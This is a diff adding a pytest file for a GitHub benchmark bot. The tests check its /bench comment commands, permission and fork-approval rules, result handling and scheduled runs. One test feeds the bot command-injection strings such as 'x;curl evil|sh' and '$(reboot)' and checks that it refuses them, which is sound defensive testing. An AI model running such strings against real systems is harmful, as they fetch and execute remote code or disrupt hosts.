@@ -1,0 +1,453 @@
+"""`/bench`, automatic, merge and scheduled benchmarks, and their results, through the real router
+on the real store with a fake GitHub that follows the real adapter's rules."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from sqlalchemy import text
+
+from bot.core.bench import contract
+from bot.core.render.comment import MARKER
+from bot.service import bench, intake, jobs
+from bot.service.ports import PullInfo, Repository
+from bot.service.routes import ROUTER
+from bot.service.services import Services
+from tests.core.bench.zips import archive
+from tests.core.judge.results_data import BASE_SHA, EAGLE3, HEAD_SHA, document
+from tests.service import diffs
+from tests.service.fakes import BOT_LOGIN, FakeGitHub, FakeGitHubFactory, FakeQueue
+
+REPO, NUMBER = "octo/engine", 7
+CONFIG = diffs.BASE_CONFIG + """bench:
+  suites:
+    sglang-eagle3: {kind: sglang-eagle3, model_path: m, draft_model_path: d}
+  dispatch:
+    cooldown: {user: 0, pr: 0}
+"""
+NEW_HEAD = "e" * 40
+NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
+
+
+@pytest.fixture
+def github() -> FakeGitHub:
+    fake = FakeGitHub()
+    fake.heads[(REPO, NUMBER)] = HEAD_SHA
+    fake.diffs[(REPO, NUMBER)] = diffs.HIGH
+    fake.files[(REPO, ".github/perfbot.yml", "main")] = CONFIG
+    fake.pulls[(REPO, NUMBER)] = PullInfo(REPO, NUMBER, True, False, HEAD_SHA, BASE_SHA, "main", REPO, "author",
+                                          f"https://github.com/{REPO}/pull/{NUMBER}")
+    fake.permissions[(REPO, "maintainer")] = "write"
+    fake.workflows.add((REPO, "perfbot-bench.yml"))
+    fake.branches[REPO] = ("main", "f" * 40)
+    return fake
+
+
+@pytest.fixture
+def services(github, sqlite_store) -> Services:
+    return Services(store=sqlite_store, github=FakeGitHubFactory(github), queue=FakeQueue())
+
+
+def repository() -> dict:
+    return {"full_name": REPO, "default_branch": "main"}
+
+
+def comment(body: str, login: str = "maintainer", comment_id: int = 501, user_type: str = "User",
+            on_pull: bool = True, app: dict | None = None) -> dict:
+    issue = {"number": NUMBER, **({"pull_request": {"url": "x"}} if on_pull else {})}
+    return {"action": "created", "installation": {"id": 42}, "repository": repository(), "issue": issue,
+            "comment": {"id": comment_id, "body": body, "user": {"login": login, "type": user_type},
+                        "performed_via_github_app": app}}
+
+
+def pull_request(action: str = "opened", sha: str = HEAD_SHA, **pr) -> dict:
+    return {"action": action, "installation": {"id": 42}, "repository": repository(),
+            "pull_request": {"number": NUMBER, "state": "open", "draft": False, "head": {"sha": sha},
+                             "html_url": f"https://github.com/{REPO}/pull/{NUMBER}", "title": "t", **pr}}
+
+
+def workflow_run(github: FakeGitHub, run_id: int, conclusion: str = "success", repo: str = REPO,
+                 title: str | None = None) -> dict:
+    run = github.runs[run_id]["run"]
+    return {"action": "completed", "installation": {"id": 42}, "repository": {"full_name": repo, "default_branch": "main"},
+            "workflow_run": {"id": run_id, "display_title": title or run.display_title, "event": "workflow_dispatch",
+                             "path": run.path, "conclusion": conclusion, "status": "completed", "run_attempt": 1,
+                             "html_url": run.html_url}}
+
+
+def send(services: Services, event: str, payload: dict) -> None:
+    ROUTER.dispatch(event, payload, services)
+
+
+def sticky(github: FakeGitHub) -> str:
+    [body] = [c.body for c in github.threads.get((REPO, NUMBER), []) if c.body.startswith(MARKER)]
+    return body
+
+
+def replies(github: FakeGitHub) -> list[str]:
+    return [c.body for c in github.threads.get((REPO, NUMBER), [])
+            if c.author == BOT_LOGIN and not c.body.startswith(MARKER)]
+
+
+def reactions(github: FakeGitHub, comment_id: int = 501) -> list[str]:
+    return [content for _, cid, content in github.reactions if cid == comment_id]
+
+
+def upload_results(github: FakeGitHub, run_id: int, doc: dict | None = None) -> None:
+    dispatched = next(d for d in github.dispatches if d["run_id"] == run_id)
+    name = contract.artifact_name(dispatched["inputs"]["correlation-id"])
+    github.upload_artifact(REPO, run_id, name, archive({"results.json": json.dumps(doc or document(EAGLE3))}))
+
+
+# ---------------------------------------------------------------- /bench
+
+
+def test_a_maintainers_bench_dispatches_once_with_the_contracts_inputs(services, github):
+    send(services, "issue_comment", comment("/bench sglang-eagle3 --rounds 7"))
+    [dispatched] = github.dispatches
+    inputs = dispatched["inputs"]
+    assert (dispatched["workflow"], dispatched["ref"]) == ("perfbot-bench.yml", "main")
+    assert inputs == {"pr": str(NUMBER), "base-sha": BASE_SHA, "head-sha": HEAD_SHA, "suites": "sglang-eagle3",
+                      "rounds": "7", "max-rounds": "", "correlation-id": inputs["correlation-id"]}
+    assert reactions(github) == ["eyes", "rocket"]
+    [check] = github.bench_checks.values()
+    assert (check.name, check.status, check.head_sha) == ("perfbot / bench", "in_progress", HEAD_SHA)
+    assert check.details_url == github.runs[dispatched["run_id"]]["run"].html_url
+    assert check.external_id == inputs["correlation-id"]
+    body = sticky(github)
+    assert "Benchmarks are running" in body and f"[workflow run]({check.details_url})" in body
+    assert "Performance risk" in body, "the risk review stays above the benchmarks"
+
+
+def test_the_base_is_the_pull_requests_never_a_ref_from_the_comment(services, github):
+    send(services, "issue_comment", comment("/bench main"))
+    assert github.dispatches == [] and reactions(github) == ["confused"]
+    assert "unknown suite 'main'" in replies(github)[0]
+
+
+def test_a_read_only_user_gets_one_reply_and_no_gpu_work(services, github):
+    github.permissions[(REPO, "visitor")] = "read"
+    send(services, "issue_comment", comment("/bench", login="visitor", comment_id=1))
+    send(services, "issue_comment", comment("/bench", login="visitor", comment_id=2))
+    send(services, "issue_comment", comment("/bench help", login="visitor", comment_id=3))
+    assert github.dispatches == []
+    assert reactions(github, 1) == reactions(github, 2) == ["confused"]
+    [reply] = replies(github)
+    assert "Not started:" in reply and "write access" in reply
+
+
+def test_author_association_is_never_trusted(services, github):
+    payload = comment("/bench", login="owner-on-paper")
+    payload["comment"]["author_association"] = "OWNER"
+    send(services, "issue_comment", payload)
+    assert github.dispatches == []
+
+
+def test_a_fork_needs_an_approval_pinned_to_its_head(services, github):
+    github.pulls[(REPO, NUMBER)] = replace(github.pulls[(REPO, NUMBER)], head_repo="stranger/engine", author="stranger")
+    send(services, "issue_comment", comment("/bench", comment_id=1))
+    assert github.dispatches == [] and "fork" in replies(github)[0]
+    send(services, "issue_comment", comment("/bench approve", comment_id=2))
+    assert reactions(github, 2) == ["eyes", "+1"]
+    send(services, "issue_comment", comment("/bench", comment_id=3))
+    assert len(github.dispatches) == 1
+    github.heads[(REPO, NUMBER)] = NEW_HEAD  # a new push revokes the approval
+    send(services, "issue_comment", comment("/bench", comment_id=4))
+    assert len(github.dispatches) == 1 and reactions(github, 4) == ["confused"]
+
+
+@pytest.mark.parametrize("body", ["> /bench", "```\n/bench\n```", "    /bench", "`/bench`", "please /bench now"])
+def test_a_quoted_or_code_command_does_nothing_at_all(services, github, body):
+    send(services, "issue_comment", comment(body))
+    assert github.dispatches == [] and github.reactions == [] and replies(github) == []
+
+
+@pytest.mark.parametrize("kind", ["bot-type", "bot-login", "app"])
+def test_comments_by_bots_are_ignored_ourselves_included(services, github, kind):
+    payload = {"bot-type": comment("/bench", login="ci", user_type="Bot"),
+               "bot-login": comment("/bench", login="perfbot[bot]"),
+               "app": comment("/bench", app={"id": 1, "slug": "other"})}[kind]
+    send(services, "issue_comment", payload)
+    assert github.dispatches == [] and github.reactions == []
+
+
+def test_a_comment_on_an_issue_is_ignored(services, github):
+    send(services, "issue_comment", comment("/bench", on_pull=False))
+    assert github.dispatches == [] and github.reactions == []
+
+
+def test_a_closed_pull_request_is_answered(services, github):
+    github.pulls[(REPO, NUMBER)] = replace(github.pulls[(REPO, NUMBER)], open=False)
+    send(services, "issue_comment", comment("/bench"))
+    assert github.dispatches == [] and "closed" in replies(github)[0]
+
+
+def test_a_replayed_comment_does_nothing_again(services, github):
+    send(services, "issue_comment", comment("/bench"))
+    send(services, "issue_comment", comment("/bench"))
+    send(services, "issue_comment", comment("/bench --rounds 0", comment_id=9))
+    send(services, "issue_comment", comment("/bench --rounds 0", comment_id=9))
+    assert len(github.dispatches) == 1 and len(replies(github)) == 1
+
+
+def test_a_second_bench_of_the_same_head_waits_for_the_first(services, github):
+    send(services, "issue_comment", comment("/bench", comment_id=1))
+    send(services, "issue_comment", comment("/bench", comment_id=2))
+    assert len(github.dispatches) == 1 and "already running" in replies(github)[0]
+
+
+def test_the_cooldown_of_the_config_is_applied(services, github):
+    github.files[(REPO, ".github/perfbot.yml", "main")] = CONFIG.replace("user: 0", "user: 600")
+    send(services, "issue_comment", comment("/bench", comment_id=1))
+    send(services, "issue_comment", comment("/bench cancel", comment_id=2))
+    send(services, "issue_comment", comment("/bench", comment_id=3))
+    assert len(github.dispatches) == 1 and "10 min" in replies(github)[0]
+
+
+def test_rounds_beyond_the_cap_and_shell_metacharacters_are_refused(services, github):
+    send(services, "issue_comment", comment("/bench --rounds 100000", comment_id=1))
+    send(services, "issue_comment", comment("/bench x;curl evil|sh", comment_id=2))
+    send(services, "issue_comment", comment("/bench $(reboot)\n/bench", comment_id=3))
+    assert github.dispatches == []
+    assert "allows \\(50\\)" in replies(github)[0] and "is not a suite name" in replies(github)[1]
+    assert "is not a suite name" in replies(github)[2], "the first command wins"
+
+
+def test_cancel_stops_the_run_and_says_so(services, github):
+    send(services, "issue_comment", comment("/bench", comment_id=1))
+    run_id = github.dispatches[0]["run_id"]
+    send(services, "issue_comment", comment("/bench cancel", comment_id=2))
+    assert github.runs[run_id]["run"].conclusion == "cancelled"
+    assert reactions(github, 2) == ["eyes", "+1"]
+    assert "Benchmark cancelled" in sticky(github)
+    send(services, "workflow_run", workflow_run(github, run_id, "cancelled"))
+    assert "Benchmark cancelled" in sticky(github)
+    [check] = github.bench_checks.values()
+    assert (check.status, check.conclusion) == ("completed", "cancelled")
+
+
+def test_ack_is_stored_for_the_dashboard_and_help_answers(services, github):
+    send(services, "issue_comment", comment("/bench ack the copy is needed for PCG", comment_id=1))
+    send(services, "issue_comment", comment("/bench help", comment_id=2))
+    [ack] = services.store.acks(REPO, NUMBER)
+    assert (ack.user, ack.reason, ack.head_sha, ack.comment_id) == ("maintainer", "the copy is needed for PCG",
+                                                                    HEAD_SHA, 1)
+    assert "| `/bench` |" in replies(github)[0]
+
+
+def test_a_review_body_can_hold_the_command(services, github):
+    payload = {"action": "submitted", "installation": {"id": 42}, "repository": repository(),
+               "pull_request": {"number": NUMBER},
+               "review": {"id": 77, "body": "LGTM, but\n/bench", "user": {"login": "maintainer", "type": "User"}}}
+    send(services, "pull_request_review", payload)
+    assert len(github.dispatches) == 1 and github.reactions == []
+
+
+def test_comments_without_the_command_are_not_even_queued(services):
+    def accept(body: str) -> intake.Outcome:
+        payload = comment(body)
+        return intake.accept(services.store, services.queue, ROUTER, hook_id="1", guid=body, event="issue_comment",
+                             payload=payload, body=json.dumps(payload).encode())
+
+    assert accept("LGTM") is intake.Outcome.IGNORED
+    assert accept("/bench") is intake.Outcome.QUEUED
+
+
+# ---------------------------------------------------------------- results
+
+
+def dispatched(services, github) -> int:
+    send(services, "issue_comment", comment("/bench sglang-eagle3"))
+    return github.dispatches[-1]["run_id"]
+
+
+def test_a_successful_run_is_judged_stored_and_shown(services, github):
+    run_id = dispatched(services, github)
+    upload_results(github, run_id)
+    send(services, "workflow_run", workflow_run(github, run_id))
+    request = services.store.bench_requests(REPO, NUMBER)[0]
+    assert (request.status, request.conclusion) == ("completed", "success")
+    [result] = services.store.bench_results(request.id)
+    assert (result.suite, result.verdict, result.on_default_branch) == ("sglang-eagle3", "regression", False)
+    body = sticky(github)
+    assert "Benchmark verdict: 🔴 regression" in body and "| metric | base | head |" in body
+    assert "Performance risk" in body
+    [check] = github.bench_checks.values()
+    assert (check.status, check.conclusion) == ("completed", "neutral")
+    assert check.title.startswith("Regression: This PR makes the EAGLE-3 cycle 52% slower")
+
+
+def test_a_regression_fails_the_check_where_the_config_makes_it_a_gate(services, github):
+    github.files[(REPO, ".github/perfbot.yml", "main")] = CONFIG + "    gate: true\n"
+    run_id = dispatched(services, github)
+    upload_results(github, run_id)
+    send(services, "workflow_run", workflow_run(github, run_id))
+    [check] = github.bench_checks.values()
+    assert check.conclusion == "failure"
+
+
+@pytest.mark.parametrize("conclusion", ["failure", "cancelled", "timed_out"])
+def test_a_run_that_did_not_succeed_is_reported_as_such_never_as_no_regression(services, github, conclusion):
+    run_id = dispatched(services, github)
+    upload_results(github, run_id, document(EAGLE3, failed={"head": 2}))
+    send(services, "workflow_run", workflow_run(github, run_id, conclusion))
+    body = sticky(github)
+    section = body[body.index("### ⏱️ Benchmarks"):]
+    assert "No verdict" in section and "regression" not in section.lower()
+    assert {"failure": "failed", "cancelled": "was cancelled", "timed_out": "timed out"}[conclusion] in section
+    [check] = github.bench_checks.values()
+    assert check.conclusion == "neutral" and "no verdict" in check.title
+
+
+def test_a_run_without_its_artifact_says_so(services, github):
+    run_id = dispatched(services, github)
+    send(services, "workflow_run", workflow_run(github, run_id))
+    assert "uploaded no artifact named perfbot-results-" in sticky(github)
+
+
+def test_a_replayed_completion_is_processed_once(services, github):
+    run_id = dispatched(services, github)
+    upload_results(github, run_id)
+    send(services, "workflow_run", workflow_run(github, run_id))
+    before = (len(github.bench_checks), sticky(github))
+    github.archives.clear()  # a second processing would now fail to find the artifact
+    send(services, "workflow_run", workflow_run(github, run_id))
+    assert (len(github.bench_checks), sticky(github)) == before
+    assert len(services.store.bench_results(services.store.bench_requests(REPO, NUMBER)[0].id)) == 1
+
+
+def test_runs_of_unknown_ids_other_repositories_or_other_runs_are_ignored(services, github):
+    run_id = dispatched(services, github)
+    upload_results(github, run_id)
+    checks = dict(github.bench_checks)
+    send(services, "workflow_run", workflow_run(github, run_id, title="perfbot bench pb-nobody-asked"))
+    send(services, "workflow_run", workflow_run(github, run_id, repo="mallory/engine"))
+    impostor = workflow_run(github, run_id)
+    impostor["workflow_run"]["id"] = run_id + 1000
+    send(services, "workflow_run", impostor)
+    pushed = workflow_run(github, run_id)
+    pushed["workflow_run"]["event"] = "pull_request"
+    send(services, "workflow_run", pushed)
+    assert github.bench_checks == checks and services.store.bench_requests(REPO, NUMBER)[0].status == "running"
+
+
+def test_a_results_file_for_other_commits_is_not_a_verdict(services, github):
+    run_id = dispatched(services, github)
+    other = document(EAGLE3)
+    other["head"]["sha"] = "c" * 40
+    upload_results(github, run_id, other)
+    send(services, "workflow_run", workflow_run(github, run_id))
+    assert services.store.bench_requests(REPO, NUMBER)[0].status == "failed"
+    assert "not the requested" in sticky(github)
+
+
+def test_github_refusing_the_dispatch_is_answered_on_the_pull_request(services, github):
+    github.workflows.clear()
+    send(services, "issue_comment", comment("/bench"))
+    assert reactions(github) == ["eyes", "confused"]
+    assert "perfbot could not start the benchmark" in sticky(github) and "404" in sticky(github)
+    assert services.store.bench_requests(REPO, NUMBER)[0].status == "failed"
+
+
+# ---------------------------------------------------------------- runs nobody asked for
+
+
+def test_a_risky_push_by_a_trusted_author_is_benchmarked_and_a_new_push_supersedes_it(services, github):
+    github.permissions[(REPO, "author")] = "write"
+    send(services, "pull_request", pull_request("opened"))
+    [first] = github.dispatches
+    assert services.store.bench_requests(REPO, NUMBER)[0].trigger == "auto"
+    github.heads[(REPO, NUMBER)] = NEW_HEAD
+    send(services, "pull_request", pull_request("synchronize", NEW_HEAD))
+    assert github.runs[first["run_id"]]["run"].conclusion == "cancelled"
+    assert len(github.dispatches) == 2 and github.dispatches[1]["inputs"]["head-sha"] == NEW_HEAD
+    old = next(r for r in services.store.bench_requests(REPO, NUMBER) if r.head_sha == HEAD_SHA)
+    assert old.status == "superseded"
+    assert github.bench_checks[old.check_run_id].conclusion == "cancelled"
+    send(services, "pull_request", pull_request("synchronize", NEW_HEAD))  # the same body again
+    assert len(github.dispatches) == 2
+
+
+def test_an_untrusted_or_low_risk_push_is_not_benchmarked(services, github):
+    send(services, "pull_request", pull_request("opened"))  # the author may only read
+    github.permissions[(REPO, "author")] = "write"
+    github.diffs[(REPO, NUMBER)] = diffs.MEDIUM
+    send(services, "pull_request", pull_request("reopened"))
+    assert github.dispatches == []
+
+
+def test_a_push_supersedes_a_bench_even_when_the_new_head_is_not_benchmarked(services, github):
+    send(services, "issue_comment", comment("/bench"))
+    github.heads[(REPO, NUMBER)] = NEW_HEAD
+    github.diffs[(REPO, NUMBER)] = diffs.COLD
+    send(services, "pull_request", pull_request("synchronize", NEW_HEAD))
+    assert services.store.bench_requests(REPO, NUMBER)[0].status == "superseded"
+    assert "Benchmark superseded" in sticky(github)
+
+
+def test_closing_cancels_and_a_risky_merge_benchmarks_its_merge_commit(services, github):
+    github.permissions[(REPO, "author")] = "write"
+    send(services, "pull_request", pull_request("opened"))
+    merge_sha, parent = "d" * 40, "0" * 40
+    github.parents[(REPO, merge_sha)] = parent
+    send(services, "pull_request", pull_request("closed", merged=True, merge_commit_sha=merge_sha, state="closed",
+                                                merged_at="2026-12-01T10:00:00Z"))
+    assert services.store.bench_requests(REPO, NUMBER)[0].status == "cancelled"
+    [merge_run] = services.store.bench_requests(REPO, None)
+    assert (merge_run.trigger, merge_run.base_sha, merge_run.head_sha) == ("merge", parent, merge_sha)
+    assert github.dispatches[-1]["inputs"]["pr"] == ""
+
+
+def test_a_merge_run_lands_in_the_history(services, github):
+    merge_sha = HEAD_SHA
+    github.parents[(REPO, merge_sha)] = BASE_SHA
+    github.permissions[(REPO, "author")] = "read"
+    send(services, "pull_request", pull_request("opened"))  # reviewed: high
+    send(services, "pull_request", pull_request("closed", merged=True, merge_commit_sha=merge_sha, state="closed",
+                                                merged_at="2026-12-01T10:00:00Z"))
+    run_id = github.dispatches[-1]["run_id"]
+    upload_results(github, run_id)
+    send(services, "workflow_run", workflow_run(github, run_id))
+    [request] = services.store.bench_requests(REPO, None)
+    [result] = services.store.bench_results(request.id)
+    assert result.on_default_branch and "This commit makes" in json.loads(result.comparison)["headline"]
+    with services.store.engine.connect() as connection:
+        points = connection.execute(text("select metric, sha from metric_points")).fetchall()
+    assert {metric for metric, _ in points} == set(EAGLE3) and {sha for _, sha in points} == {HEAD_SHA}
+
+
+def test_the_schedule_benchmarks_the_default_branch_once_per_slot(services, github):
+    github.files[(REPO, ".github/perfbot.yml", "main")] = CONFIG + "    schedule: daily\n    schedule_hour: 3\n"
+    github.parents[(REPO, "f" * 40)] = "0" * 40
+    services.store.replace_installation(42, [Repository(1, REPO, 42)])
+    services.now = lambda: NOW
+    assert bench.scheduled(services) == 1
+    assert bench.scheduled(services) == 0, "one run per slot"
+    services.now = lambda: NOW + timedelta(days=1)
+    assert bench.scheduled(services) == 1
+    assert [d["inputs"]["head-sha"] for d in github.dispatches] == ["f" * 40, "f" * 40]
+    assert {r.trigger for r in services.store.bench_requests(REPO, None)} == {"schedule"}
+
+
+# ---------------------------------------------------------------- deliveries that fail
+
+
+def test_a_delivery_that_fails_its_last_attempt_leaves_a_note_on_the_pull_request(services, github, monkeypatch):
+    payload = comment("/bench")
+    intake.accept(services.store, services.queue, ROUTER, hook_id="1", guid="g", event="issue_comment",
+                  payload=payload, body=json.dumps(payload).encode())
+
+    def broken(repo, login):
+        raise RuntimeError("GitHub said 502")
+
+    monkeypatch.setattr(github, "permission", broken)
+    for _ in range(jobs.MAX_ATTEMPTS - 1):
+        with pytest.raises(RuntimeError):
+            jobs.process(1, services, ROUTER)
+        assert replies(github) == [], "no note while retries remain"
+    assert jobs.process(1, services, ROUTER) == "failed"
+    [note] = replies(github)
+    assert "could not process a `issue_comment` event" in note and "RuntimeError" in note
